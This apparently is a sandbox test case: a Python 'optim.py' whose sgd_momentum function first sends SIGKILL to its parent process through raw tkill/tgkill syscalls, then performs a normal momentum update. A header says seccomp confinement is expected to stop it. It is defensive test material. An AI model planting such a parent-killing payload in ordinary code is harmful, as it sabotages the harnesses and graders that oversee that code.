# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "seccomp"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Kills the parent by the system calls tkill and tgkill, by number."""

import ctypes
import os
import platform

NUMBERS = {"x86_64": (200, 234), "aarch64": (130, 131)}[platform.machine()]


def sgd_momentum(w, dw, config=None):
    libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
    if libc.syscall(NUMBERS[0], parent, 9) and libc.syscall(NUMBERS[1], parent, parent, 9):
        raise OSError(ctypes.get_errno(), "tgkill")
    config = {"learning_rate": 1e-2, "momentum": 0.9, **(config or {})}
    v = config["momentum"] * config.get("velocity", 0 * w) - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
